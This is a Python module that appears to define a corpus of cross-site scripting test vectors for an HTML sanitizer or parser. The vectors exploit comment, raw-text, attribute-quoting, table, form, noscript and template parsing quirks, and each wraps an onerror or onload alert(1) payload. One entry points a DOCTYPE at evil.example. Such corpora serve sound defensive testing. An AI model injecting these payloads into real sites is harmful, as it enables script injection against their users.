"""Vectors that live on how markup is read: comments, raw text, quotes, tables, forms, and ends that end something else."""

_BAIT = "<img src=x onerror=alert(1)>"
_COMMENTS = [
    "<!-->{}-->", "<!--->{}-->", "<!--x--!>{}-->", "<!-- --!>{}", "<!--<!-->{}-->", "<!--\x00-->{}", "<!-- -- >{}-->", "<!--{}", "<!{}>", "<?{}?>",
    "<?xml version='1.0'?>{}", "<?xml-stylesheet href='javascript:alert(1)'?>{}", "</{}>", "</ {}", "<![CDATA[{}]]>", "<![CDATA[>]]>{}", "<![if !x]>{}<![endif]>",
    "<!--[if gte IE 4]>{}<![endif]-->", "<!DOCTYPE html [<!ENTITY x '{}'>]>&x;", "<!DOCTYPE x SYSTEM 'https://evil.example/'>{}", "<%{}%>", "<#{}#>", "<!ENTITY x>{}",
    "<!--><!--{}", "<!----!>{}<!---->", "<comment>{}</comment>", "<//{}>", "<!-{}->", "<! --{}-- >",
]  # fmt: skip
_RAW = [
    "title", "textarea", "style", "script", "xmp", "iframe", "noembed", "noframes", "noscript", "plaintext", "listing", "template", "select",
    "option", "object", "audio", "video", "canvas", "math", "svg", "frameset", "applet", "marquee", "comment", "nextid",
]  # fmt: skip
_BROKEN = [
    "<{}", "<{}<{}", "<{} \n/ ", "<p title=\"{}", "<p title='{}", "<p title={}", "<p title=`{}`", "<p lang=\"&quot;>{}\">x", "<p class='image\">{}'>x",
    "<a href=\"http://x?\"{}\">x", "<a title='\"'>{}</a>", "<abbr title=\"--><!--{}\">x</abbr>", "<time datetime='</time>{}'>x</time>", "<p/title/{}>", "<p ={}>",
    "<p \"={}>", "<p\x00{}>", "<\x00{}>", "<p <{}>", "<<{}>>", "< {}", "<\n{}>", "<p\x0c{}>", "<a\x0bhref=x {}>", "<p title=\"\x00\">{}",
    "<th scope='col\">{}'>x", "<ol start='1\"{}'><li>x", "<img alt='{}' src=x>", "<img alt=\"&lt;/p&gt;{}\" src=/media/pictures/00000000000000000000000000000000.webp>",
]  # fmt: skip
_ODD = [
    "img src=x onerror=alert(1)>", "img/src=x/onerror=alert(1)>", "svg onload=alert(1)>", "script>alert(1)</script>", "ScRiPt >alert(1)</sCrIpT\t>",
]  # fmt: skip
_TREES = [
    "<table>{}<tr><td>x</table>", "<table><tr>{}<td>x</table>", "<table><caption>{}</table>", "<table><colgroup>{}</table>", "<table><td><table>{}</table>",
    "<table><style><a title='</style>{}'></table>", "<table><input type=hidden {}>", "<table><form>{}</form></table>", "<table><a href=x>{}<tr><td></a>",
    "<p><table>{}</p></table>", "<b><p><b>{}</p></b>", "<a href=x>{}<a href=y>{}</a></a>", "<ul><li>{}<ul><li>{}</ul></ul>", "<select><option>{}</select>",
    "<select><script>alert(1)</script>{}</select>", "<select><template>{}</template></select>", "<select><select>{}", "<form><form>{}</form></form>",
    "<form><div></form>{}", "<button><button>{}", "<nobr><nobr>{}", "<h2><h2>{}</h3></h2>", "<dl><dd>{}<dt>{}</dl>", "<ruby><rt>{}</ruby>", "<frameset>{}</frameset>",
    "<html><head>{}</head><body>{}</body></html>", "</body>{}</html>{}", "<body onload=alert(1)>{}", "<head><title>{}</title>", "<br></br>{}", "</p>{}</p>",
    "<figure><figcaption>{}</figure></figcaption>{}", "<blockquote></blockquote {}>", "<li></li onclick=alert(1)>{}", "<template><tr>{}</tr></template>",
    "<template><template>{}</template></template>", "<template shadowrootmode=open>{}<slot></slot></template>", "<div><template shadowroot=open>{}</template></div>",
    "<math><table><tr>{}</table></math>", "<object><object>{}</object></object>", "<marquee><table>{}</marquee>", "<details open><summary>{}</details>",
    "<noscript><p title='</noscript>{}'></noscript>", "<noscript><!--</noscript>{}--></noscript>", "<noscript><textarea></noscript>{}</textarea>",
    "<noscript><style></noscript>{}", "<textarea><noscript></textarea>{}</noscript>", "<xmp><noscript></xmp>{}", "<script><!--<script></script>{}--></script>",
    "<script>'<!--<script>'</script>{}</script>", "<style><!--</style>{}--></style>", "<style></style\n>{}", "<title></title x=y>{}", "<textarea>\n</textarea/>{}",
]  # fmt: skip
VECTORS = [
    *(shape.replace("{}", _BAIT) for shape in [*_COMMENTS, *_TREES]),
    *(f"<{raw}>{_BAIT}</{raw}>" for raw in _RAW),
    *(f"<{raw}><p title='</{raw}>{_BAIT}'>" for raw in _RAW),
    *(shape.replace("{}", "img src=x onerror=alert(1)") for shape in _BROKEN),
    *("<" + odd for odd in _ODD),
    *("<p>" + odd for odd in _ODD),
]
